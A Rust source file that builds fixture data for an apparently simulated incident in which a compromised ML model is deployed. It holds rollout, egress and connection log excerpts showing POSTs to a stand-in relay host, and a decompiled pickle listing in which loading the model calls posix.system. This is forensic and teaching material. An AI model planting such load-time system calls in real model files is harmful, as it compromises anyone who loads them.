//! What is in the artifacts of the compromise.

use super::parts::*;
use std::collections::BTreeMap;
use wb_core::*;

#[rustfmt::skip]
const ROLLOUT_LINES: &[(u64, &str)] = &[
    (1, "[2026-05-04 09:00:10] INFO  rollout service started"),
    (2, "[2026-05-04 09:00:12] INFO  update requested by ml-platform (CHG-1180)"),
    (3, "[2026-05-04 09:02:40] INFO  deployed triage 2.3 from registry.example/ml/triage"),
    (4, "[2026-06-02 16:20:02] WARN  new source organisation: contrib-labs"),
    (5, "[2026-06-02 16:20:11] INFO  deployed triage.pt from registry.example/contrib-labs/triage-fast"),
    (6, "[2026-06-02 16:20:12] INFO  sha256 8f02c6d1e4b7a951..."),
    (7, "[2026-06-02 16:20:19] INFO  gpu-07 loaded models/live/triage.pt"),
    (9, "[2026-06-20 02:12:00] ALERT unusual egress from gpu-07 to metrics-relay.example"),
    (10, "[2026-06-20 02:14:41] INFO  incident INC-4471 opened"),
];

#[rustfmt::skip]
const EGRESS_LINES: &[(u64, &str)] = &[
    (2, r#"{"ts":"2026-06-20T01:41:08Z","src":"10.20.0.7","host":"registry.internal.example","action":"allow"}"#),
    (3, r#"{"ts":"2026-06-20T02:11:09Z","src":"10.20.0.7","host":"metrics-relay.example","method":"POST","path":"/v1/ingest","body":"sid=7b41&part=relay{f2","action":"allow"}"#),
    (4, r#"{"ts":"2026-06-20T02:12:30Z","src":"10.20.0.7","host":"metrics-relay.example","method":"POST","action":"deny","rule":"EG-12"}"#),
    (6, r#"{"ts":"2026-06-20T02:41:31Z","src":"10.20.0.7","host":"metrics-relay.example","method":"POST","action":"deny","rule":"EG-12"}"#),
];

#[rustfmt::skip]
const CONN_LINES: &[(u64, &str)] = &[
    (40, "1780417200.0\tCk2\t10.20.0.7\t51000\t10.20.0.2\t443\ttcp\tssl\t0.4\t415\t2210"),
    (41, "1780417221.0\tCk3\t10.20.0.7\t51002\t203.0.113.44\t443\ttcp\tssl\t0.6\t1904\t212"),
    (44, "1780419022.0\tCk9\t10.20.0.7\t51044\t203.0.113.44\t443\ttcp\tssl\t0.6\t1904\t212"),
];

pub fn dossiers() -> BTreeMap<ArtifactPath, Dossier> {
    BTreeMap::from([
        (LIVE_PICKLE.into(), production()),
        (STAGED.into(), candidate()),
        (ROLLOUT.into(), log(ROLLOUT_LINES)),
        (EGRESS.into(), log(EGRESS_LINES)),
        (CONN.into(), log(CONN_LINES)),
    ])
}

fn production() -> Dossier {
    Dossier {
        tensors: vec![tensor("encoder.weight", &[768, 768]), tensor("head.bias", &[14])],
        fields: vec![field("protocol", "2")],
        listings: vec![Listing {
            place: "op 0 to op 14".into(),
            language: Language::Pickle,
            text: format!(
                "from collections import OrderedDict\nfrom posix import system\n\n_0 = OrderedDict()\n\
                 _0['head.bias'] = persistent_load(('storage', 'FloatStorage', '0', 'cpu', 14))\n\
                 _1 = system({COMMAND:?})\n_2 = _0\nresult = _2"
            ),
            marks: vec![2, 6],
        }],
        differences: vec![
            difference("global", "posix.system", Change::Added, "called at load"),
            difference("tensor", "head.bias", Change::Changed, "F32 [12] before, F32 [14] now"),
        ],
        ..Dossier::default()
    }
}

fn candidate() -> Dossier {
    Dossier {
        components: vec![
            layer("tokens", "Embedding", 0),
            layer("dense", "Dense", 2),
            layer("score_shift", "Lambda", 3),
        ],
        fields: vec![field("keras_version", "3.4.1"), field("date_saved", "2026-06-18@22:40:02")],
        listings: vec![Listing {
            place: "layer score_shift".into(),
            language: Language::CPython,
            text: findings()[1].payloads[0].text.clone(),
            marks: vec![3],
        }],
        differences: vec![
            difference("layer", "score_shift", Change::Added, "class Lambda"),
            difference("tensor", "dense.kernel", Change::Removed, "F32 [768, 14]"),
        ],
        ..Dossier::default()
    }
}

fn log(rows: &[(u64, &str)]) -> Dossier {
    Dossier {
        excerpt: rows.iter().map(|(line, text)| (*line, (*text).to_owned())).collect(),
        ..Dossier::default()
    }
}

fn difference(what: &'static str, name: &str, change: Change, detail: &str) -> Difference {
    Difference { baseline: BASELINE.into(), what, name: name.into(), change, detail: detail.into() }
}

fn tensor(name: &str, shape: &[u64]) -> Tensor {
    Tensor {
        name: name.into(),
        dtype: "F32".into(),
        shape: shape.to_vec(),
        span: Some(Span::new(4_096, shape.iter().product::<u64>() * 4)),
        strides: None,
    }
}

fn field(path: &str, value: &str) -> Field {
    Field { path: path.into(), value: value.into(), span: None }
}

fn layer(name: &str, class: &str, index: usize) -> Component {
    Component {
        kind: "layer",
        name: name.into(),
        class: class.into(),
        module: Some("keras.layers".into()),
        place: format!("config.layers[{index}]"),
        span: None,
        settings: vec![field("name", name), field("trainable", "true"), field("units", "128")],
    }
}
